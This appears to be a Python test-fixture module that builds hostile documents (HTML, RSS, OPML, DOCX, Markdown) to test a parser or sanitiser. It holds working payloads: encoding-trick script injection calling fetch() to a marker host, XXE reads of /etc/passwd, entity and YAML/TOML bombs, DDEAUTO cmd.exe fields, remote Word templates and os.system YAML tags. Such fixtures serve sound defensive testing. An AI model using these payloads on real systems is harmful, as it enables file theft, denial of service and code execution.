"""Whole files that mean harm in the manner of their format; each with words that must come through, or none."""

from __future__ import annotations

from hostile import MARK

from attacks.ways_in import WORDS, docx_of, field, run, utf8

_CALL = f"fetch('//{MARK}')"
_PAGE = f"<!doctype html><html><body><p>{WORDS}</p><p>+ADw-script+AD4-{_CALL}+ADw-/script+AD4-</p></body></html>"
_SCRIPT = f"<p>{WORDS}</p><script>{_CALL}</script>"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_FEED = "<title>x</title><item><title>{0}</title><guid>1</guid><description>&lt;p&gt;{1}&lt;/p&gt;</description></item>"
_SETTINGS = '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{0}"><w:attachedTemplate r:id="t1"/></w:settings>'


def _rss(title: str, head: str = "", text: str = WORDS) -> bytes:
    return utf8(f'<?xml version="1.0"?>{head}<rss version="2.0"><channel>{_FEED.format(title, text)}</channel></rss>')


def _relation(kind: str, target: str, name: str = "x1") -> str:
    return f'<Relationship Id="{name}" Type="{_REL}/{kind}" TargetMode="External" Target="{target}"/>'


_LAUGHS = "".join(f"<!ENTITY l{at} '{f'&l{at - 1};' * 10}'>" for at in range(1, 12))
_PARAGRAPH = f"<w:p>{run(WORDS)}</w:p>"
_DDE = field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', "words")
_OBJECT = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package" r:id="x1"/></w:object></w:r></w:p>'
_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="x1" r:embed="x1"/>'
    "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)

DOCUMENTS: dict[str, tuple[str, bytes]] = {
    # broken encodings
    "UTF-7 without a word": ("a.html", _PAGE.encode()),
    "UTF-7 as charset": ("a.html", _PAGE.replace("<html>", "<html><meta charset=utf-7>").encode()),
    "UTF-7 in a paste": ("a.txt", utf8(f"{WORDS}\n\n+ADw-script+AD4-{_CALL}+ADw-/script+AD4-\n")),
    "overlong": ("a.html", f"<p>{WORDS}</p>".encode() + b"\xc0\xbcscript\xc0\xbe" + _CALL.encode() + b"\xe0\x80\xbc/script>"),
    "UTF-16 without a mark": ("a.html", _SCRIPT.encode("utf-16-le")),
    "UTF-16 with one": ("a.html", f"<!doctype html>{_SCRIPT}".encode("utf-16")),
    "UTF-32": ("a.html", f"<!doctype html>{_SCRIPT}".encode("utf-32")),
    "NUL in tags": ("a.html", utf8(f"<p>{WORDS}</p><scr\0ipt>{_CALL}</scr\0ipt><img src=x on\0error={_CALL}>")),
    "Shift JIS eats a quote": ("a.html", b"<meta charset=shift_jis><p>" + WORDS.encode() + b'</p><img alt="\x83"><b title=" onclick=x()">words</b>'),
    "ISO-2022-JP": ("a.html", b"<meta charset=iso-2022-jp><p>" + WORDS.encode() + b"</p>\x1b(J<a title='\x1b$B'><img src=x onerror=x()>\x1b(B'>words</a>"),
    "HZ": ("a.html", b"<meta charset=hz-gb-2312><p>" + WORDS.encode() + b"</p>~{<script>x()</script>~}"),
    "EBCDIC": ("a.html", f"<meta charset=cp037><p>{WORDS}".encode("cp037")),
    "halves of surrogates": ("a.json", b'{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[{"id":"\\ud800","title":"\\udc00 x","content_html":"<p>' + WORDS.encode() + b' \\ud800<img src=x onerror=x()></p>"}]}'),
    "two charsets": ("feed.rss", b'<?xml version="1.0" encoding="utf-7"?><rss version="2.0"><channel>' + _FEED.format("+ADw-script+AD4-x()", WORDS).encode() + b"</channel></rss>"),
    # XML
    "entity of a file": ("feed.rss", _rss("&x;", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    "entity of a host": ("feed.rss", _rss("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "http://{MARK}/x">]>')),
    "parameter entity": ("feed.rss", _rss("x", f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://{MARK}/x.dtd"> %x;]>')),
    "outer DTD": ("feed.rss", _rss("x", f'<!DOCTYPE rss SYSTEM "http://{MARK}/x.dtd">')),
    "billion laughs": ("feed.rss", _rss("&l11;", f"<!DOCTYPE rss [<!ENTITY l0 'ha'>{_LAUGHS}]>")),
    "quadratic": ("feed.rss", _rss("&a;" * 2000, f"<!DOCTYPE rss [<!ENTITY a '{'a' * 20_000}'>]>")),
    "style sheet": ("feed.rss", _rss("x", f'<?xml-stylesheet type="text/xsl" href="http://{MARK}/x.xsl"?>')),
    "XInclude": ("feed.rss", _rss('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
    "laughs in a list": ("list.opml", utf8(f"<!DOCTYPE opml [<!ENTITY l0 'ha'>{_LAUGHS}]><opml version='2.0'><body><outline text='&l11;' xmlUrl='https://example.org'/></body></opml>")),
    # Word
    "remote template": ("a.docx", docx_of(_PARAGRAPH, _relation("attachedTemplate", f"http://{MARK}/x.dotm", "t1"), settings=_SETTINGS.format(_REL))),
    "linked picture": ("a.docx", docx_of(_PARAGRAPH + _PICTURE, _relation("image", f"http://{MARK}/pixel.png"))),
    "picture of this machine": ("a.docx", docx_of(_PARAGRAPH + _PICTURE, _relation("image", "file:///etc/passwd"))),
    "picture up the folders": ("a.docx", docx_of(_PARAGRAPH + _PICTURE, f'<Relationship Id="x1" Type="{_REL}/image" Target="../../../etc/passwd"/>')),
    "linked object": ("a.docx", docx_of(_PARAGRAPH + _OBJECT, _relation("oleObject", f"http://{MARK}/x.hta"))),
    "piece of HTML": ("a.docx", docx_of(f'{_PARAGRAPH}<w:altChunk r:id="x1"/>', f'<Relationship Id="x1" Type="{_REL}/aFChunk" Target="x.html"/>', html=f"<html>{_SCRIPT}</html>")),
    "DDE": ("a.docx", docx_of(f"{_PARAGRAPH}<w:p>{_DDE}</w:p>")),
    "DDE in one": ("a.docx", docx_of(f'{_PARAGRAPH}<w:p><w:fldSimple w:instr="DDE cmd &quot;/k calc&quot;">{run("words")}</w:fldSimple></w:p>')),
    "sub-document": ("a.docx", docx_of(f'{_PARAGRAPH}<w:subDoc r:id="x1"/>', _relation("subDocument", f"http://{MARK}/x.docx"))),
    "frame": ("a.docx", docx_of(_PARAGRAPH, _relation("frame", f"http://{MARK}/x.html"))),
    "entities in Word": ("a.docx", docx_of(f"{_PARAGRAPH}<w:p>{run('words')}</w:p>", settings=f"<!DOCTYPE a [<!ENTITY l0 'ha'>{_LAUGHS}]><a>&l11;</a>")),
    # front matter and Markdown
    "YAML bomb": ("a.md", utf8("---\na: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + at)}: &{chr(98 + at)} [{','.join([f'*{chr(97 + at)}'] * 9)}]\n" for at in range(12)) + f"title: words\n---\n\n{WORDS}\n")),
    "YAML tags": ("a.md", utf8(f"---\ntitle: !!python/object/apply:os.system ['id']\nauthor: !!python/name:os.system words\ntags: !!binary aGE=\n---\n\n{WORDS}\n")),
    "YAML merge": ("a.md", utf8(f"---\nx: &x {{title: words}}\n<<: *x\n<<: [*x, *x]\n---\n\n{WORDS}\n")),
    "YAML deep": ("a.md", utf8("---\ntitle: " + "[" * 5000 + "]" * 5000 + f"\n---\n\n{WORDS}\n")),
    "TOML bomb": ("a.md", utf8("+++\n" + "a." * 3000 + f"b = 1\ntitle = 'words'\nx = {'[' * 3000}{']' * 3000}\n+++\n\n{WORDS}\n")),
    "TOML numbers": ("a.md", utf8(f"+++\ntitle = {'9' * 100_000}\ndate = 9999-12-31T23:59:59-23:59\n+++\n\n{WORDS}\n")),
    "front matter of a path": ("a.md", utf8(f"---\nid: ../../../etc/passwd\nslug: ../../x\nurl: file:///etc/passwd\norigin: {{name: /etc/passwd}}\n---\n\n{WORDS}\n")),
    "footnotes in footnotes": ("a.md", utf8(f"{WORDS}[^a]\n\n" + "".join(f"[^{chr(97 + at)}]: words [^{chr(97 + (at + 1) % 26)}] <script>{_CALL}</script>\n\n" for at in range(26)))),
    "definitions": ("a.md", utf8(f'{WORDS} [words][a] ![words][a]\n\n[a]: <javascript:{_CALL}> "onclick"\n[A]: data:text/html,x\n[words]: vbscript:x\n')),
}  # fmt: skip
"""Name of the file and its bytes, by what it does."""
